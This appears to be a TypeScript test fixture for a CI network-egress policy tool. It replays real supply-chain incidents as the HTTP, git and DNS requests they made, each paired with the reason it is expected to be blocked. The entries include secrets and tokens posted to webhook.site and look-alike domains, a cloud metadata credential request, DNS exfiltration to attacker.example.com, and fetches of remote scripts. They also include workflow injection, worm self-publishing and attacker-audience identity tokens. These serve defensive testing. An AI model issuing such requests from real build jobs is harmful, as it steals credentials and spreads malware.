// Incidents as what they put on the wire, step by step, with the outcome that the recommended policy must have: the
// first list comes from the install script of a dependency, the other from a job that may release.

import type { EvidenceKind } from '../../flow/evidence.ts';
import type { Reason } from '../../flow/reason.ts';

/** Written so that no scanner takes them for real ones. */
export const tokens = {
  job: `ghs_${'J'.repeat(36)}`,
  person: `ghp_${'P'.repeat(36)}`,
  registry: `npm_${'R'.repeat(36)}`,
  gitlab: `glpat-${'G'.repeat(20)}`,
} as const;

/** The host that npm asks. */
export const npmHost = ['registry', 'npmjs', 'org'].join('.');
const npm = `https://${npmHost}`;
const api = 'https://api.github.com';

export interface Replay {
  readonly incident: string;
  /** `METHOD URL` by curl, `push HOST/REPOSITORY` by git, `ask NAME` by dig. */
  readonly send: string;
  /** Whose token goes with it. */
  readonly as?: keyof typeof tokens;
  readonly header?: string;
  readonly body?: string;
  /** Null: it is allowed, as a control. */
  readonly reason: Reason | null;
  readonly rule?: string;
  readonly evidence?: readonly EvidenceKind[];
  /** In audit mode, too, it is blocked and not only recorded. */
  readonly isAlwaysBlocked?: true;
  /** The request goes on, and its answer is what is judged. */
  readonly isAnswerJudged?: true;
}

const json = (value: unknown): string => JSON.stringify(value);

/** The call by which a runner has an action resolved; each in a job of its own, so that paths tell them apart. */
const resolve = (job: string, action: string, version: string) => ({
  send: `POST https://launch-1.actions.githubusercontent.com/actions/build/plan/jobs/${job}/runnerresolve/actions`,
  body: json({ actions: [{ action, version, path: '' }] }),
});

/** Actions that a build of a branch uses, and what a dependency's install script does in it. */
export const fromInstall: readonly Replay[] = [
  {
    incident: 'tj-actions, reviewdog 2025, Trivy 2026: a tag that was moved',
    ...resolve('moved', 'some-vendor/setup-tool', 'v1'),
    reason: 'moved-ref',
    rule: 'actions.movedRef',
    evidence: ['moved-ref', 'off-branch'],
    isAnswerJudged: true,
  },
  {
    incident: 'tj-actions 2025: a commit that only a fork has',
    ...resolve('imposter', 'some-vendor/setup-tool', '0e58ed8671d6b60d0890c21b07f8835ace038e67'),
    reason: 'off-branch',
    rule: 'actions.offBranch',
    evidence: ['off-branch'],
    isAnswerJudged: true,
  },
  {
    incident: 'an action of somebody whom nobody vouches for',
    ...resolve('foreign', 'tj-actions/changed-files', 'v45'),
    reason: 'action-unlisted',
    rule: 'actions.allow',
  },
  {
    incident: 'tj-actions 2025: the script that reads memory, from a gist',
    send: 'GET https://gist.githubusercontent.com/octo-dev/30e525b776c409e03c2d6f328f254965/raw/memdump.py',
    reason: 'repository',
  },
  {
    incident: 'tj-actions 2025: the archive of a commit that a tag was moved to',
    send: 'GET https://codeload.github.com/tj-actions/changed-files/tar.gz/0e58ed8671d6b60d0890c21b07f8835ace038e67',
    reason: 'repository',
  },
  {
    incident: 'a file of a foreign repository, raw',
    send: 'GET https://raw.githubusercontent.com/octo-dev/Shai-Hulud/main/run.sh',
    reason: 'repository',
  },
  {
    incident: 'secrets in a gist',
    send: `POST ${api}/gists`,
    as: 'person',
    body: json({ public: true, files: { 'results.json': { content: 'secrets' } } }),
    reason: 'repository',
    evidence: ['foreign-owner'],
  },
  {
    incident: 'Codecov 2021: the uploader from a mirror',
    send: 'GET https://uploader.codecov-mirror.io/bash',
    reason: 'no-rule',
  },
  {
    incident: 'Codecov 2021: the environment posted to a bare address',
    send: 'POST http://93.184.216.90/upload/v2',
    body: '<<<<<< ENV CI=true',
    reason: 'direct-address',
  },
  {
    incident: 'npm worm 2025: what was found, posted to a webhook',
    send: 'POST https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7',
    body: json({ found: 3 }),
    reason: 'no-rule',
  },
  {
    incident: 'npm worm 2025: a token in the URL',
    send: `GET https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7?t=${tokens.person}`,
    reason: 'no-rule',
    evidence: ['secret-in-request'],
  },
  {
    incident: 'npm worm 2025: whose token it is',
    send: `GET ${npm}/-/whoami`,
    as: 'registry',
    reason: 'credential-kind',
  },
  {
    incident: 'npm worm 2025: the next package is published from an install',
    send: `PUT ${npm}/event-tools`,
    as: 'registry',
    body: json({ name: 'event-tools' }),
    reason: 'publish',
  },
  {
    incident: 'npm worm 2025: a package of one’s own is published from an install',
    send: `PUT ${npm}/@acme%2fhandbook`,
    as: 'registry',
    body: json({ name: '@acme/handbook' }),
    reason: 'publish',
  },
  {
    incident: 'npm worm 2025: a public repository under the victim’s account',
    send: `POST ${api}/user/repos`,
    as: 'person',
    body: json({ name: 'Shai-Hulud', private: false }),
    reason: 'repository',
    evidence: ['foreign-owner'],
  },
  {
    incident: 'the same by GraphQL',
    send: `POST ${api}/graphql`,
    as: 'person',
    body: json({
      query:
        'mutation{createRepository(input:{name:"Shai-Hulud",visibility:PUBLIC}){repository{nameWithOwner}}}',
    }),
    reason: 'repository',
    evidence: ['foreign-owner'],
  },
  {
    incident: 'npm worm 2025: a push to it with the victim’s token',
    send: 'push github.com/octo-dev/Shai-Hulud',
    as: 'person',
    reason: 'repository',
    evidence: ['foreign-owner'],
  },
  {
    incident: 'the job’s own repository, forked to who knows whom',
    send: `POST ${api}/repos/acme/storefront/forks`,
    as: 'person',
    body: json({ organization: 'octo-dev' }),
    reason: 'repository',
    evidence: ['foreign-owner'],
  },
  {
    incident: 'Nx 2025: the results as a file of such a repository',
    send: `PUT ${api}/repos/octo-dev/s1ngularity-repository-0/contents/results.b64`,
    as: 'person',
    body: json({ message: 'x', content: 'eA==' }),
    reason: 'repository',
    evidence: ['foreign-owner'],
  },
  {
    incident: 'npm worm 2025: a workflow added with the job’s own token',
    send: `PUT ${api}/repos/acme/storefront/contents/.github/workflows/Shai-Hulud.yml`,
    as: 'job',
    body: json({ message: 'x', content: 'eA==' }),
    reason: 'access',
  },
  {
    incident: 'npm worm, second wave: a runtime from its maker’s site',
    send: 'GET https://bun.sh/install',
    reason: 'no-rule',
  },
  {
    incident: 'npm worm, second wave: a runner of the attacker’s own is registered',
    send: `POST ${api}/repos/acme/storefront/actions/runners/registration-token`,
    as: 'job',
    body: '{}',
    reason: 'access',
  },
  {
    incident: 'Trivy 2026: a look-alike of the vendor’s domain',
    send: 'POST https://scan.aquasecurtiy.org/',
    header: 'x-filename: tpcp.tar.gz',
    body: 'x'.repeat(2000),
    reason: 'no-rule',
  },
  {
    incident: 'the job’s own token as a credential for such a host',
    send: 'GET https://git-tanstack.com/api',
    as: 'job',
    reason: 'no-rule',
    evidence: ['foreign-token'],
  },
  {
    incident: 'TanStack 2026: files sent to a messenger',
    send: 'POST https://filev2.getsession.org/file/',
    body: 'x'.repeat(2000),
    reason: 'no-rule',
  },
  {
    incident: 'axios 2026: plain HTTP on a port of its own',
    send: 'POST http://sfrclak.com:8000/6202033',
    body: 'packages/product2',
    reason: 'no-rule',
  },
  {
    incident: 'Shai-Hulud 2025: credentials of the machine',
    send: 'GET http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    reason: 'never-address',
    isAlwaysBlocked: true,
  },
  {
    incident: 'data in names',
    send: `ask ${'a1b2c3d4e5'.repeat(6)}.attacker.example.com`,
    reason: 'no-rule',
  },
  {
    incident: 'dependency confusion: a name of one’s own, asked of the public registry',
    send: `GET ${npm}/acme-billing`,
    reason: 'internal-package',
    rule: 'own-names',
  },
  {
    incident: 'event-stream 2018, axios 2026: a dependency of a few hours',
    send: `GET ${npm}/flatmap-stream/-/flatmap-stream-0.1.1.tgz`,
    reason: 'package-age',
    rule: 'settled',
  },
  {
    incident: 'a look-alike name, new',
    send: `GET ${npm}/lodahs/-/lodahs-1.0.0.tgz`,
    reason: 'package-age',
    rule: 'settled',
  },
  {
    incident: 'a look-alike name, old and known',
    send: `GET ${npm}/crossenv-fork/-/crossenv-fork-6.1.1.tgz`,
    reason: 'malicious-package',
    rule: 'MAL-2026-1',
  },
  {
    incident: 'an issue in a foreign repository',
    send: `POST ${api}/repos/octo-dev/Shai-Hulud/issues`,
    as: 'job',
    body: json({ title: 'x', body: 'secrets' }),
    reason: 'repository',
  },
  {
    incident: 'a comment in a foreign repository',
    send: `POST ${api}/repos/tj-actions/changed-files/issues/1/comments`,
    as: 'person',
    body: json({ body: 'secrets' }),
    reason: 'repository',
    evidence: ['foreign-owner'],
  },
];

/** What a compromised step does in a job that may release. */
export const fromRelease: readonly Replay[] = [
  {
    incident: 'a release asset of a foreign repository',
    send: 'POST https://uploads.github.com/repos/octo-dev/Shai-Hulud/releases/1/assets?name=env.tgz',
    as: 'person',
    body: 'x'.repeat(2000),
    reason: 'repository',
    evidence: ['foreign-owner'],
  },
  {
    incident: 'a push to a foreign repository with the job’s token',
    send: 'push github.com/tj-actions/changed-files',
    as: 'job',
    reason: 'repository',
  },
  {
    incident: 'an issue in another repository of the organization',
    send: `POST ${api}/repos/acme/handbook/issues`,
    as: 'job',
    body: json({ title: 'x' }),
    reason: 'access',
  },
  {
    incident: 'another package of somebody is published by a release',
    send: `PUT ${npm}/event-tools`,
    as: 'registry',
    body: json({ name: 'event-tools' }),
    reason: 'publish',
  },
  {
    incident: 'a workflow added by a job that may write',
    send: `PUT ${api}/repos/acme/storefront/contents/.github/workflows/Shai-Hulud.yml`,
    as: 'job',
    body: json({ message: 'x', content: 'eA==' }),
    reason: 'permission',
  },
  {
    incident: 'a token of the registry in a comment of the job’s own repository',
    send: `POST ${api}/graphql`,
    as: 'job',
    body: json({
      query: `mutation{addComment(input:{subjectId:"I_1",body:"${tokens.registry}"}){clientMutationId}}`,
    }),
    reason: 'foreign-token',
    evidence: ['secret-in-request'],
  },
  {
    incident: 'an identity token for a place of the attacker’s',
    send: 'GET https://run-actions-1.actions.githubusercontent.com/7//idtoken/plan/job?api-version=2.0&audience=attacker.example.com',
    as: 'job',
    reason: 'oidc-audience',
  },
];

const young = `https://files.pythonhosted.org/packages/aa/bb/${'c'.repeat(60)}`;
const accept = 'accept: application/vnd.pypi.simple.v1+json';

/** What a build of a project in Python may and may not do; the policy is that of the page's second part. */
export const fromPython: readonly Replay[] = [
  {
    incident: 'the list of versions',
    send: 'GET https://pypi.org/simple/lodahs/',
    header: accept,
    reason: null,
    rule: 'preset:pypi/index',
  },
  {
    incident: 'a version that has been there for long',
    send: `GET ${young}/lodahs-1.0-py3-none-any.whl`,
    reason: null,
    rule: 'preset:pypi/files',
  },
  {
    incident: 'LiteLLM 2026: a version of a few hours',
    send: `GET ${young}/lodahs-2.0-py3-none-any.whl`,
    reason: 'package-age',
    rule: 'settled',
  },
  {
    incident: 'LiteLLM 2026: what was found, posted to a look-alike domain',
    send: 'POST https://scan.aquasecurtiy.org/',
    header: 'x-filename: tpcp.tar.gz',
    body: 'x'.repeat(2000),
    reason: 'no-rule',
  },
  {
    incident: 'dependency confusion',
    send: 'GET https://pypi.org/simple/acme-internal-billing/',
    header: accept,
    reason: 'internal-package',
    rule: 'own-names',
  },
  {
    incident: 'a package is published from a build',
    send: 'POST https://upload.pypi.org/legacy/',
    body: json({ name: 'event-tools' }),
    reason: 'publish',
  },
  {
    incident: 'a file of a foreign repository, raw',
    send: 'GET https://raw.githubusercontent.com/octo-dev/Shai-Hulud/main/run.sh',
    reason: 'repository',
  },
];

const gitlab = 'https://gitlab.com/api/v4/projects';

/** What a job of gitlab.com may and may not do; the policy is that of the page's third part. */
export const fromGitlab: readonly Replay[] = [
  {
    incident: 'another project of one’s own is read',
    send: `GET ${gitlab}/acme%2Fhandbook/packages`,
    as: 'gitlab',
    reason: null,
    rule: 'own',
  },
  {
    incident: 'a push to a foreign project',
    send: 'push gitlab.com/octo-dev/Shai-Hulud',
    as: 'gitlab',
    reason: 'repository',
    evidence: ['foreign-owner'],
  },
  {
    incident: 'an issue in a foreign project',
    send: `POST ${gitlab}/octo-dev%2FShai-Hulud/issues`,
    body: json({ title: 'x' }),
    reason: 'repository',
  },
  {
    incident: 'a public project is made',
    send: `POST ${gitlab}`,
    body: json({ name: 'Shai-Hulud', visibility: 'public' }),
    reason: 'repository',
  },
  {
    incident: 'a file in the package registry of a foreign project',
    send: `PUT ${gitlab}/octo-dev%2FShai-Hulud/packages/generic/results/1/results.b64`,
    body: 'x'.repeat(2000),
    reason: 'repository',
  },
  {
    incident: 'a hook of the job’s own project',
    send: `POST ${gitlab}/acme%2Fstorefront/hooks`,
    body: json({ url: 'https://webhook.site/' }),
    reason: 'access',
  },
  {
    incident: 'what was found, posted to a webhook',
    send: 'POST https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7',
    body: json({ found: 3 }),
    reason: 'no-rule',
  },
];
